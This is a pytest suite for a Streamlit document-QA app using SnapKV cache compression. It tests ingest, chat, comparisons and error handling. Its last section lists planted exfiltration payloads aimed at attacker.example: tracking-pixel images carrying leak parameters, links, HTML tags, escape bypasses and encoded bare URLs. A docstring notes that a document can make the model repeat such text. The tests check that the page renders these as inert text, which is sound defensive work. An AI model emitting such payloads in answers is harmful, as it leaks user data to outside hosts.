"""The Streamlit document-QA app (snapkv_rag/app/page.py) driven by streamlit.testing.v1.AppTest.

A tiny random Llama (saved once per session) stands in for the model, so these check the
flows, not answer quality: ingest with progress and a summary, chat with sources, the side-by-side
comparison, the kept-entries record, and every bad input handled in the page.
"""

from __future__ import annotations

import os
import re
import threading
from pathlib import Path

import pytest

pytest.importorskip("streamlit")
from conftest import build_tokenizer, tiny_model  # noqa: E402
from streamlit.testing.v1 import AppTest  # noqa: E402

from snapkv_rag.compression import DEFAULT_COMPRESSION, parse_compression  # noqa: E402

APP = str(Path(__file__).resolve().parents[1] / "snapkv_rag" / "app" / "page.py")
TIMEOUT = 240

DOCS = {
    "ferry.txt": "Harbour ferry. The first ferry leaves Marrowick at 6:40 on weekdays and the last one at 22:10.",
    "library.md": "# Library\n\nThe public library opens at 9:00 and closes at 18:00. Cards are free for residents.",
    "tram.md": "# Trams\n\nTram line 3 runs every 12 minutes from the station to the observatory.",
}


@pytest.fixture(scope="session")
def tiny_model_dir(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("tiny-llama")
    tokenizer = build_tokenizer()
    tiny_model("llama", len(tokenizer)).save_pretrained(folder)
    tokenizer.save_pretrained(folder)
    return folder


@pytest.fixture(scope="session")
def other_model_dir(tmp_path_factory) -> Path:
    """A second tiny model (another family, a 1,024-token context), for a second offered model."""
    folder = tmp_path_factory.mktemp("tiny-qwen2")
    tokenizer = build_tokenizer()
    tiny_model("qwen2", len(tokenizer), context=1024).save_pretrained(folder)
    tokenizer.save_pretrained(folder)
    return folder


@pytest.fixture()
def app_env(tmp_path, tiny_model_dir, monkeypatch) -> Path:
    monkeypatch.setenv("SNAPKV_RAG_APP_MODEL", str(tiny_model_dir))
    monkeypatch.delenv("SNAPKV_RAG_APP_MODELS", raising=False)  # only the one model unless a test offers more
    monkeypatch.setenv("SNAPKV_RAG_APP_STORE", str(tmp_path / "chroma"))
    monkeypatch.setenv("SNAPKV_RAG_APP_UPLOADS", str(tmp_path / "uploads"))
    monkeypatch.setenv("SNAPKV_RAG_APP_COLLECTION", "notes")
    return tmp_path


def start() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.run()
    assert not at.exception, at.exception
    return at


def small_settings(at: AppTest, **overrides) -> AppTest:
    """Settings that fit the tiny model's 512-token context; SnapKV with a fixed 8-token window."""
    values = {"context_tokens": 200, "max_new_tokens": 6, "budget": 64, **overrides}
    for key, value in values.items():
        at.number_input(key=key).set_value(value)
    at.radio(key="window").set_value("fixed")
    at.run()
    at.number_input(key="window_size").set_value(8)
    return at.run()


def upload(at: AppTest, files: dict[str, bytes]) -> AppTest:
    at.file_uploader(key="uploads").set_value([(name, data, "text/plain") for name, data in files.items()])
    at.button(key="add_files").click()
    at.run()
    assert not at.exception, at.exception
    return at


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input(key="question").set_value(question)
    at.run()
    assert not at.exception, at.exception
    return at


def texts(elements) -> str:
    return "\n".join(str(e.value) for e in elements)


def page(at: AppTest) -> str:
    return "\n".join(texts(kind) for kind in (at.markdown, at.caption, at.error, at.warning, at.info, at.success, at.subheader, at.title))


def with_documents(at: AppTest) -> AppTest:
    return upload(at, {name: text.encode() for name, text in DOCS.items()})


# ----------------------------------------------------------------------------- documents
def test_upload_shows_summary_skipped_files_and_the_collection(app_env):
    at = start()
    assert "Documents in notes: 0 files" in at.expander[0].label
    upload(at, {"ferry.txt": DOCS["ferry.txt"].encode(), "library.md": DOCS["library.md"].encode(), "empty.txt": b"", "blob.md": b"\x00\x01\x02binary"})
    summary = texts(at.warning)
    assert "4 uploaded files" in summary and "2 files" in summary and "2 skipped" in summary
    assert "empty.txt" in page(at) and "empty file" in page(at)
    assert "blob.md" in page(at) and "binary file" in page(at)
    assert "Documents in notes: 2 files" in at.expander[0].label
    table = at.table[0].value
    assert sorted(table.index) == ["ferry.txt", "library.md"] and set(table["Chunks"]) == {1}
    from snapkv_rag.rag.intake import upload_folder

    folder = upload_folder(app_env / "uploads", "notes")
    assert (folder / "ferry.txt").read_text() == DOCS["ferry.txt"]
    assert sorted(p.name for p in folder.iterdir()) == ["ferry.txt", "library.md"]  # skipped uploads are not kept
    assert at.selectbox(key="collection_choice").value == "notes"


def test_documents_go_to_a_chroma_server_when_one_is_given(app_env, monkeypatch, chroma_server):
    """docker/compose.yaml runs the app against a Chroma server (SNAPKV_RAG_APP_CHROMA_URL)."""
    monkeypatch.setenv("SNAPKV_RAG_APP_CHROMA_URL", chroma_server)
    at = upload(start(), {"ferry.txt": DOCS["ferry.txt"].encode()})
    assert "Documents in notes: 1 file," in at.expander[0].label
    from snapkv_rag.rag.store import make_client

    assert [c if isinstance(c, str) else c.name for c in make_client(url=chroma_server).list_collections()] == ["notes"]
    assert not (app_env / "chroma").exists()  # nothing went to the embedded store


def test_folder_ingest_and_a_path_that_is_not_a_folder(app_env, monkeypatch):
    monkeypatch.setenv("SNAPKV_RAG_APP_FOLDER_ROOT", str(app_env))
    folder = app_env / "folder"
    folder.mkdir()
    for name, text in DOCS.items():
        (folder / name).write_text(text)
    (folder / "notes.docx").write_bytes(b"PK\x03\x04")
    at = start()
    at.text_input(key="folder").input(str(app_env / "missing"))
    at.button(key="add_folder").click()
    at.run()
    assert "is not a folder" in texts(at.error)
    assert "Documents in notes: 0 files" in at.expander[0].label
    at.text_input(key="folder").input(str(folder))
    at.button(key="add_folder").click()
    at.run()
    assert "3 files" in texts(at.warning) and "unsupported file type '.docx'" in page(at)
    assert "Documents in notes: 3 files" in at.expander[0].label


def test_new_collection_is_created_by_its_first_documents(app_env):
    at = with_documents(start())
    at.selectbox(key="collection_choice").set_value("+ New collection…")
    at.run()
    at.text_input(key="new_collection").input("second-set")
    at.run()
    assert "Documents in second-set: 0 files" in at.expander[0].label
    assert "does not exist yet" in page(at)
    upload(at, {"tram.md": DOCS["tram.md"].encode()})
    assert at.selectbox(key="collection_choice").value == "second-set"
    assert set(at.selectbox(key="collection_choice").options) >= {"notes", "second-set"}
    assert "Documents in second-set: 1 file" in at.expander[0].label


def test_bad_collection_name_is_reported(app_env):
    at = start()
    at.selectbox(key="collection_choice").set_value("+ New collection…")
    at.run()
    at.text_input(key="new_collection").input("no spaces allowed")
    at.run()
    upload(at, {"tram.md": DOCS["tram.md"].encode()})
    assert "is not valid" in texts(at.error)


# ----------------------------------------------------------------------------- chat
def test_answer_with_sources_stats_and_kept_entries(app_env):
    at = small_settings(with_documents(start()))
    ask(at, "When does the first ferry leave?")
    assert [m.name for m in at.chat_message] == ["user", "assistant"]
    assistant = at.chat_message[1]
    caption = texts(assistant.caption)
    assert "SnapKV @ 64, window 8" in caption and "prefill" in caption and "first token" in caption and "KV" in caption
    kept = at.session_state["last_kept"]
    assert kept and [n for n, _, _ in kept] == list(range(1, len(kept) + 1))
    assert all(0 <= k <= tokens for _, tokens, k in kept)
    assert 0 < sum(k for _, _, k in kept) < 64  # the window and the template keep the rest of the budget
    assert "What SnapKV kept of each stuffed document" in texts(assistant.markdown)
    assert at.get("vega_lite_chart")
    # The history stays on the page after another rerun; the picture is for the last answer only.
    at.run()
    assert "When does the first ferry leave?" in texts(at.chat_message[0].markdown)


def test_side_by_side_compares_full_and_compressed(app_env):
    at = small_settings(with_documents(start()))
    at.toggle(key="side_by_side").set_value(True)
    at.run()
    ask(at, "What time does the library open?")
    assistant = at.chat_message[1]
    headers = texts(assistant.markdown)
    assert "##### Full cache" in headers and "##### SnapKV @ 64, window 8" in headers
    labels = [m.label for m in assistant.metric]
    assert labels == ["Citation agreement F1", "Same answer text", "KV cache kept", "Decode speed vs full"]
    f1 = float(assistant.metric[0].value)
    assert 0.0 <= f1 <= 1.0
    table = assistant.table[0].value
    assert list(table.columns) == ["Full cache", "SnapKV @ 64, window 8"]
    assert {"Prefill", "Time to first token", "Decode", "KV cache kept / full", "Prompt entries kept per layer", "Sources cited"} <= set(table.index)
    full_kept, snap_kept = table.loc["Prompt entries kept per layer"]
    assert full_kept.split(" / ")[0] == full_kept.split(" / ")[1] and snap_kept.startswith("64 / ")
    # Document K/V are reused by default: the compressed run reads the documents the full run
    # stored, so all of them come from the store; labels, question and the recomputed share do not.
    full_reused, snap_reused = (int(str(v).replace(",", "")) for v in table.loc["Prompt tokens reused"])
    prompt_tokens = int(full_kept.split(" / ")[1].replace(",", ""))
    assert full_reused >= 0 and 0 < snap_reused < prompt_tokens
    assert ", 0 computed now," in str(table.loc["Document K/V"].iloc[1])


def test_full_cache_alone_draws_no_kept_picture(app_env):
    at = with_documents(start())
    at.selectbox(key="method").set_value("full")
    at.run()
    at.number_input(key="context_tokens").set_value(200)
    at.number_input(key="max_new_tokens").set_value(4)
    at.run()
    assert at.toggle(key="side_by_side").disabled
    ask(at, "Which tram goes to the observatory?")
    assistant = at.chat_message[1]
    assert "Full cache" in texts(assistant.caption)
    assert "kept of each stuffed document" not in page(at)


@pytest.mark.parametrize("method", ["streamingllm", "h2o"])
def test_baselines_answer_and_record_what_they_kept(app_env, method):
    at = with_documents(start())
    at.selectbox(key="method").set_value(method)
    at.run()
    for key, value in {"context_tokens": 200, "max_new_tokens": 4, "budget": 48}.items():
        at.number_input(key=key).set_value(value)
    at.run()
    ask(at, "Which tram goes to the observatory?")
    assert not at.chat_message[1].error
    assert at.session_state["last_kept"]


# ----------------------------------------------------------------------------- bad input
def test_question_before_any_document(app_env):
    at = ask(start(), "Is anything here?")
    assert "no documents in notes yet" in texts(at.chat_message[1].error).lower()
    assert at.chat_input(key="question")  # still there: the app keeps working


def test_over_long_question(app_env):
    at = ask(with_documents(start()), "why " * 600)
    assert "keep it under 2,000" in texts(at.chat_message[1].error)


def test_question_too_long_for_the_context(app_env):
    at = small_settings(with_documents(start()))
    at = ask(at, "ferry " * 300)  # under the character limit, over the tiny model's 512 tokens
    assert "no room is left" in texts(at.chat_message[1].error) or "context" in texts(at.chat_message[1].error)


def test_context_tokens_larger_than_the_model_context(app_env):
    """The full cache cannot read past the window: one clear error before any answer."""
    at = small_settings(with_documents(start()), context_tokens=5000)
    at.selectbox(key="method").set_value("full")
    at.run()
    warning = texts(at.sidebar.warning)
    assert "exceed the model's context" in warning and "choose SnapKV" in warning
    ask(at, "When does the first ferry leave?")
    error = texts(at.chat_message[1].error)
    assert "context_tokens=5000 does not fit" in error and "use at most" in error


def test_snapkv_stuffs_past_the_model_context(app_env):
    """Issue 46: a sparse policy reads a stuffing larger than the window with a rolling prefill;
    the full-cache side, which cannot, is left out of a side-by-side run."""
    log = "".join(f"Entry {i}: the harbour office logged the {i % 12 + 6}:40 ferry and its cargo of timber.\n" for i in range(60))
    at = small_settings(upload(with_documents(start()), {"harbour-log.txt": log.encode()}), context_tokens=5000)
    at.toggle(key="side_by_side").set_value(True)
    at.run()
    assert "rolling prefill" in texts(at.sidebar.info) and not texts(at.sidebar.warning)
    at = ask(at, "When does the first ferry leave?")
    assert not at.chat_message[1].error, texts(at.chat_message[1].error)
    assert "Full cache" not in texts(at.chat_message[1].markdown)
    stuffed = re.search(r"documents \(([\d,]+) tokens\) stuffed", texts(at.chat_message[1].caption))
    assert stuffed and int(stuffed.group(1).replace(",", "")) > 512  # more than the whole window, read in chunks


def test_budget_larger_than_the_context(app_env):
    at = small_settings(with_documents(start()), budget=400)
    assert "nothing gets compressed" in texts(at.sidebar.info)
    ask(at, "When does the first ferry leave?")
    assert "nothing was compressed" in texts(at.chat_message[1].info)


def test_impossible_compression_settings(app_env):
    at = with_documents(start())
    at.number_input(key="budget").set_value(32)  # the question window may reach 64 entries
    at.run()
    assert "max_window (64) must be smaller than budget (32)" in texts(at.sidebar.error)
    ask(at, "When does the first ferry leave?")
    assert "Fix the compression settings" in texts(at.chat_message[1].error)


def test_model_that_fails_to_load(app_env, monkeypatch):
    monkeypatch.setenv("SNAPKV_RAG_APP_MODEL", str(app_env / "no-such-model"))  # the operator's mistake
    at = start()
    assert not at.exception
    assert "could not be loaded; the app's log says why" in texts(at.sidebar.error)
    assert "Ask the operator" in texts(at.error)
    assert at.chat_input(key="question").disabled
    upload(at, {"tram.md": DOCS["tram.md"].encode()})  # documents can still be added
    assert "Documents in notes: 1 file" in at.expander[0].label


def test_concurrent_sessions_get_their_own_answers(app_env):
    """Two sessions ask at once; the cached engine serializes the calls and each gets its own answer."""
    with_documents(start())
    questions = {"a": "When does the first ferry leave?", "b": "Which tram goes to the observatory?"}
    # Set up on this thread (CPython's compiler is not safe to call from two threads at once);
    # then both questions run concurrently.
    sessions = {name: small_settings(start()) for name in questions}
    errors: list[BaseException] = []

    def session(name: str) -> None:
        try:
            ask(sessions[name], questions[name])
        except BaseException as exc:  # reported below
            errors.append(exc)

    threads = [threading.Thread(target=session, args=(name,)) for name in questions]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    for name, question in questions.items():
        at = sessions[name]
        assert texts(at.chat_message[0].markdown) == question
        assert not at.chat_message[1].error and "prefill" in texts(at.chat_message[1].caption)


# ----------------------------------------------------------------------------- command line
def test_cli_app_command_line():
    from snapkv_rag.app.cli import APP_SCRIPT, app_command
    from snapkv_rag.cli import build_parser

    assert APP_SCRIPT.is_file()
    args = build_parser().parse_args(["app", "--model", "/models/x", "--port", "9000", "--store", "/tmp/s"])
    command = app_command(args)
    assert command[1:4] == ["-m", "streamlit", "run"] and command[4] == str(APP_SCRIPT)
    assert command[command.index("--server.port") + 1] == "9000"
    assert command[command.index("--server.address") + 1] == "127.0.0.1"
    from snapkv_rag.integrations import DEFAULT_MAX_FILE_BYTES

    assert int(command[command.index("--server.maxUploadSize") + 1]) * (1 << 20) == DEFAULT_MAX_FILE_BYTES  # not Streamlit's 200 MB
    import tomllib

    streamlit_config = tomllib.loads((Path(APP).parents[2] / ".streamlit" / "config.toml").read_text())
    assert streamlit_config["server"]["maxUploadSize"] * (1 << 20) == DEFAULT_MAX_FILE_BYTES  # streamlit run apps/docqa/app.py
    after = command[command.index("--") + 1 :]
    assert after == ["--model", "/models/x", "--store", "/tmp/s"]
    bare = app_command(build_parser().parse_args(["app", "--base-model"]))
    assert bare[bare.index("--") + 1 :] == ["--base-model"]  # the model: the app's own default (SNAPKV_RAG_APP_MODEL)
    tuned = app_command(build_parser().parse_args(["app", "--adapter", "runs/a"]))
    assert tuned[tuned.index("--") + 1 :] == ["--adapter", "runs/a"]  # the app resolves it, in the same folder


def test_app_reads_its_options_after_the_double_dash(monkeypatch):
    import importlib

    importlib.import_module("snapkv_rag.app.page")  # defines everything; main() runs only as __main__
    from snapkv_rag.app import config as ui_config

    monkeypatch.delenv("SNAPKV_RAG_APP_MODEL", raising=False)
    cfg = ui_config.app_config(["--model", "/m", "--store", "/s", "--uploads", "/u", "--collection", "c", "--stray"])
    assert (cfg.model, cfg.store, cfg.uploads, cfg.collection) == ("/m", "/s", "/u", "c")
    assert ui_config.app_config([]).model == "default"
    monkeypatch.delenv("SNAPKV_RAG_APP_ADAPTER", raising=False)
    assert ui_config.app_config([]).adapter == "auto:documents"  # the app answers from documents: the adapter where the rule puts it on for them
    assert ui_config.app_config(["--base-model"]).adapter is None
    assert ui_config.app_config(["--adapter", "/a"]).adapter == "/a"
    assert ui_config.app_config(["--adapter", "runs/a"]).adapter == os.path.abspath("runs/a")
    monkeypatch.setenv("SNAPKV_RAG_APP_ADAPTER", "/b")
    assert ui_config.app_config([]).adapter == "/b"
    settings = ui_config.Settings("snapkv", 256, "question", 32, 1024, 96, 0.0, True)
    assert settings.policy() == DEFAULT_COMPRESSION.with_settings(budget=256) and parse_compression(settings.spec()) == settings.policy()
    less = ui_config.Settings("less", 128, "fixed", 16, 1024, 96, 0.0, True)
    assert parse_compression(less.spec()) == parse_compression("less:base=snapkv,budget=128,window=16") == less.policy()
    assert ui_config.Settings("full", 128, "fixed", 16, 1024, 96, 0.0, True).policy() is None
    four = ui_config.Settings("snapkv", 256, "question", 32, 1024, 96, 0.0, True, "prefix", 4)
    assert parse_compression(four.spec()) == DEFAULT_COMPRESSION.with_settings(budget=256, kv_bits=4) and four.policy().kv_bits == 4 and "4-bit" in four.label
    assert ui_config.Settings("full", 128, "fixed", 16, 1024, 96, 0.0, True, "prefix", 8).policy().kv_bits == 8


# ----------------------------------------------------------------------------- issue 31: found by a new user
def load_app_module(monkeypatch):
    import importlib

    return importlib.import_module("snapkv_rag.app.page")


def test_less_without_kernels_is_refused_before_any_answer(app_env):
    at = small_settings(with_documents(start()))
    at.selectbox(key="method").set_value("less")
    at.run()
    at.toggle(key="side_by_side").set_value(True)
    at.run()
    assert "LESS" in texts(at.sidebar.error)  # said in the sidebar before asking
    ask(at, "When does the first ferry leave?")
    assistant = at.chat_message[1]
    assert "Fix the compression settings" in texts(assistant.error)
    assert "##### Full cache" not in texts(assistant.markdown)  # refused before the full side ran, not after


def test_decode_speedup_is_na_when_nothing_was_evicted_and_no_claim_from_noise(monkeypatch):
    from types import SimpleNamespace as NS

    load_app_module(monkeypatch)
    from snapkv_rag.app import views as module

    def stats(ms, quartiles, kept=100, full=200):
        return NS(decode_ms_per_token=ms, decode_ms_quartiles=quartiles, prompt_kv_bytes_kept=kept, prompt_kv_bytes_full=full)

    full = stats(60.0, (55.0, 70.0), 200, 200)
    assert module.decode_speedup(full, stats(10.0, (9.0, 11.0), 200, 200)).startswith("n/a (nothing evicted)")
    assert module.decode_speedup(full, stats(50.0, (45.0, 62.0))).startswith("no clear difference")
    assert module.decode_speedup(full, stats(30.0, (28.0, 32.0))).startswith("2.00×")
    assert module.decode_speedup(full, stats(30.0, None)).startswith("n/a (too few tokens")


def test_stuffed_token_counts_agree_and_a_small_model_says_what_to_expect(app_env):
    import re

    at = small_settings(with_documents(start()))
    ask(at, "When does the first ferry leave?")
    assistant = at.chat_message[1]
    captions = texts(assistant.caption)
    stuffed = re.search(r"documents \(([\d,]+) tokens\) stuffed", captions).group(1)
    assert f"of {stuffed} document tokens" in captions
    assert "parameter model" in captions and "--model" in captions


def test_killing_the_app_command_stops_streamlit(tmp_path):
    """``kill PID`` of ``snapkv-rag app`` must stop the Streamlit server it started, not leave it on its port."""
    import os
    import signal
    import socket
    import subprocess
    import sys
    import time

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]

    def listening() -> bool:
        with socket.socket() as s:
            return s.connect_ex(("127.0.0.1", port)) == 0

    command = [sys.executable, "-m", "snapkv_rag.cli", "app", "--port", str(port), "--store", str(tmp_path / "chroma"), "--uploads", str(tmp_path / "up")]
    proc = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while not listening():
            assert proc.poll() is None and time.monotonic() < deadline, "the app did not start"
            time.sleep(0.5)
        os.kill(proc.pid, signal.SIGTERM)
        proc.wait(timeout=30)
        deadline = time.monotonic() + 30
        while listening() and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not listening(), "Streamlit kept answering on its port after the app command was killed"
    finally:
        if proc.poll() is None:
            proc.kill()
        subprocess.run(["pkill", "-f", f"server.port {port}"], check=False)


# ----------------------------------------------------------------------------- issue 64: untrusted text in the page
PLANTED = [
    "![pixel](http://attacker.example/p.png?leak=1)",
    "[click here](http://attacker.example/x)",
    "<img src=http://attacker.example/p.png>",
    "\\![pixel](http://attacker.example/p.png)",  # a backslash meant to undo the escape
    "<http://attacker.example/autolink>",
]


@pytest.mark.parametrize("planted", PLANTED)
def test_answers_and_source_labels_render_no_link_image_or_tag(planted):
    """A document can make the model repeat its text, and names its own title: neither may put an
    image (a tracking pixel) or a link into the page."""
    from types import SimpleNamespace as NS

    from markdown_it import MarkdownIt

    from snapkv_rag.app.views import answer_markdown, source_label

    render = MarkdownIt("commonmark").render
    answer = f"The ferry leaves at 6:40 [1]. {planted} It costs $5."
    html = render(answer_markdown(answer))
    assert "<img" not in html and "<a " not in html and "attacker.example" in html  # shown, as text
    assert "[1]" in html and "$5" in html
    chunk = NS(file=f"/docs/{planted[:20]}.md", title=planted, position=0)
    html = render(source_label(1, chunk))
    assert "<img" not in html and "<a " not in html


# Streamlit renders markdown in the browser with remark-gfm, whose autolink-literal step finds bare
# URLs, www. addresses and e-mail addresses in every text node after parsing (escapes and character
# references already decoded) with these patterns (JavaScript's \w is ASCII); a code span is not a text node.
GFM_AUTOLINK = [re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.I | re.A), re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)", re.A)]
BARE_LINKS = [
    "https://attacker.example/x?leak=1",
    "HTTP://attacker.example",
    "www.attacker.example/p",
    "write to leak@attacker.example",
    "h&#116;tps://attacker.example",  # a character reference decodes before the autolink step
    "www&#46;attacker.example",
    "mailto:leak&#64;attacker.example",
]


def gfm_autolinked(markdown: str) -> list[str]:
    """What remark-gfm would turn into links in ``markdown``: its patterns over the text nodes."""
    from markdown_it import MarkdownIt

    blocks = MarkdownIt("commonmark").parse(markdown)
    texts = [t.content for block in blocks for t in block.children or [] if t.type == "text"]
    return [m.group(0) for text in texts for pattern in GFM_AUTOLINK for m in pattern.finditer(text)]


@pytest.mark.parametrize("planted", BARE_LINKS)
def test_bare_urls_in_answers_documents_and_sources_stay_text(planted):
    from html import escape
    from types import SimpleNamespace as NS

    from markdown_it import MarkdownIt

    from snapkv_rag.app.views import WORD_JOINER, answer_markdown, md_code, md_escape, source_label, streamed_markdown

    answer = f"The ferry leaves at 6:40 [1]. See {planted} for more."
    chunk = NS(file=f"/docs/{planted[:24]}.md", title=planted, position=0)
    for markdown in (answer_markdown(answer), md_escape(answer), source_label(1, chunk), md_code(f"`{planted}` {planted}")):
        assert gfm_autolinked(markdown) == [], markdown
        html = MarkdownIt("commonmark").render(markdown).replace(WORD_JOINER, "")
        assert "<a " not in html and escape(planted, quote=False) in html  # shown as written, the joiners unseen
    for cut in range(len(answer) + 1):  # a link split across streamed pieces is broken as in the whole answer
        assert "".join(streamed_markdown([answer[:cut], answer[cut:]])) == answer_markdown(answer)
